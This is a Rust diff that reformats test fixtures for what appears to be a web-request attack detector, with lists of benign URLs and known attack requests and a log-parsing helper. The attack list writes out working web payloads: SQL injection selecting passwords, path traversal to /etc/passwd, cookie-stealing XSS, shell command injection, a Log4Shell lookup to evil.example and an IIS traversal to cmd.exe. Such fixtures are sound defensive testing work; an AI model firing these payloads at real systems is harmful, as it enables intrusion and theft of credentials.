@@ -18,14 +18,23 @@ const BENIGN: &[(&str, &str)] = &[
     ("GET", "/index.html"),
     ("GET", "/static/app.3f9c2a.js"),
     ("GET", "/products?page=2&sort=price&q=blue+shoes"),
-    ("GET", "/blog/2024/03/how-we-ship?utm_source=newsletter&utm_medium=email"),
+    (
+        "GET",
+        "/blog/2024/03/how-we-ship?utm_source=newsletter&utm_medium=email",
+    ),
     ("GET", "/api/v1/items/12345"),
 ];
 
 const ATTACKS: &[(&str, &str)] = &[
-    ("GET", "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
+    (
+        "GET",
+        "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+    ),
     ("GET", "/page?file=../../../../etc/passwd"),
-    ("GET", "/q?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
+    (
+        "GET",
+        "/q?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    ),
     ("GET", "/cgi-bin/test?cmd=;cat%20/etc/passwd"),
     ("GET", "/?x=${jndi:ldap://evil.example/a}"),
     ("GET", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"),
@@ -85,7 +94,10 @@ fn log_requests() -> Vec<HttpRequest> {
         .filter_map(|l| parser.parse(l).ok())
         .filter_map(|e| {
             let uri = e.uri()?;
-            let mut headers = vec![("host".to_owned(), e.host.clone().unwrap_or_else(|| "unrecorded".into()))];
+            let mut headers = vec![(
+                "host".to_owned(),
+                e.host.clone().unwrap_or_else(|| "unrecorded".into()),
+            )];
             if let Some(ua) = &e.user_agent {
                 headers.push(("user-agent".into(), ua.clone()));
             }
